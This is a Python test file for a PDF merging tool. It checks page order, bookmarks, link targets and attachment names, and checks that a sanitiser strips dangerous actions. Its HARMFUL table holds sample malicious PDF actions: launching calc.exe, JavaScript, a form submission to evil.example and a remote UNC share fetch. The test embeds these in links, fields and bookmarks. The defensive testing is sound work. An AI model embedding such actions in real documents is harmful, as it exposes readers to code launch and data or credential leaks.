import io

import pikepdf
import pytest
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, OutlineItem, Pdf

from offload.order import Options
from offload.press.pdfs.merge import Binder, disarm
from tests import typesetting
from tests.papers import content, paper


def merged(*papers: tuple[str, pikepdf.Pdf]) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    binder = Binder(pdf)
    for name, one in papers:
        binder.add(one, name)
    binder.bind()
    return pikepdf.open(io.BytesIO(content(pdf)))


def tree(items: list[OutlineItem]) -> list[tuple[str, list[str]]]:
    return [(item.title, [child.title for child in item.children]) for item in items]


def linked(word: str) -> pikepdf.Pdf:
    html = f"<title>{word}</title><a href='#end'>on</a><h1>{word} 1</h1><h1 id=end>{word} 2</h1>"
    breaks = Options(page_css="h1 { break-before: page }")
    return pikepdf.open(io.BytesIO(typesetting.pdf(html, breaks)))


def test_pages_come_in_order() -> None:
    pdf = merged(("a", paper("", (100, 100), (200, 100))), ("b", paper("", (300, 100))))
    assert [round(page.mediabox[2]) for page in pdf.pages] == [100, 200, 300]


def test_each_file_has_a_bookmark_and_its_own_below() -> None:
    pdf = merged(("a.pdf", linked("One")), ("b.pdf", paper()), ("c.pdf", linked("Two")))
    assert tree(pdf.open_outline().root) == [
        ("One", ["One 1", "One 2"]),
        ("b.pdf", []),
        ("Two", ["Two 1", "Two 2"]),
    ]
    places = [item.destination for item in pdf.open_outline().root]
    pages = [pikepdf.Page(place[0]).index for place in places if isinstance(place, pikepdf.Array)]
    assert pages == [0, 3, 4]


def test_links_lead_to_their_own_files_pages() -> None:
    pdf = merged(("a", linked("One")), ("b", linked("Two")))
    names = pikepdf.NameTree(pdf.Root.Names.Dests)
    targets = []
    for number in (0, 3):
        [link] = pdf.pages[number].Annots
        destination = names[str(link.Dest)]
        place = destination.D if isinstance(destination, pikepdf.Dictionary) else destination
        targets.append(pikepdf.Page(place[0]).index)
    assert targets == [2, 5]


def test_attachments_are_kept_by_names_of_their_own() -> None:
    papers = []
    for number in range(3):
        one = paper()
        one.attachments["data.csv"] = AttachedFileSpec(one, b"%d" % number, filename="data.csv")
        papers.append(("a", one))
    pdf = merged(*papers)  # held: pikepdf's attachments do not hold it
    assert {name: item.get_file().read_bytes() for name, item in pdf.attachments.items()} == {
        "data.csv": b"0",
        "2-data.csv": b"1",
        "3-data.csv": b"2",
    }


HARMFUL: dict[str, dict[str, object]] = {
    "Launch": {"/S": Name.Launch, "/F": "calc.exe"},
    "JavaScript": {"/S": Name.JavaScript, "/JS": "app.alert(1)"},
    "SubmitForm": {"/S": Name.SubmitForm, "/F": "https://evil.example"},
    "GoToR": {"/S": Name.GoToR, "/F": r"\\evil.example\share\a.pdf"},
    "None": {"/F": "of no kind"},
}


@pytest.mark.parametrize("kind", HARMFUL)
def test_no_action_that_reaches_out_survives(kind: str) -> None:
    """On a page, in what is on it, after another action, in a field and in a bookmark."""

    def harm() -> Dictionary:
        return Dictionary(HARMFUL[kind])

    def link(action: Dictionary) -> Dictionary:
        return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)

    one = paper("One")
    safe = Dictionary(S=Name.URI, URI="https://example.com")
    then = Dictionary(S=Name.URI, URI="https://example.org", Next=harm())
    back = link(safe)
    back.PA = harm()
    widget = one.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9], FT=Name.Tx, T="a")
    )
    widget.AA = Dictionary(K=harm(), F=Array([harm()]))
    annotations = [one.make_indirect(link(harm())), link(then), back, widget]
    one.pages[0].obj.Annots = Array(annotations)
    one.Root.AcroForm = Dictionary(Fields=[widget])
    one.pages[0].obj.AA = Dictionary(O=harm())
    with one.open_outline() as outline:
        outline.root.append(OutlineItem("One", 0))
    one.Root.Outlines.First.A = harm()
    with Pdf.new() as bound:
        binder = Binder(bound)
        binder.add(one, "One")
        [warning] = binder.bind()
        result = pikepdf.open(io.BytesIO(content(bound)))
    assert kind in warning
    found = [value for value in result.objects if isinstance(value, Dictionary)]
    assert f'"/S": "/{kind}"' not in repr(found)
    links = list(result.pages[0].obj.Annots)[:3]
    assert ["/A" in it for it in links] == [False, False, True]
    assert str(links[2].A.URI) == "https://example.com"
    for it in result.pages[0].obj.Annots:
        assert "/PA" not in it
        assert not list(it.get("/AA", Dictionary()).keys())


def test_a_field_that_is_its_own_child_ends() -> None:
    one = paper("One")
    field = one.make_indirect(Dictionary(FT=Name.Tx, T="a"))
    field.Kids = Array([field])
    one.Root.AcroForm = Dictionary(Fields=[field])
    assert disarm(one) == []
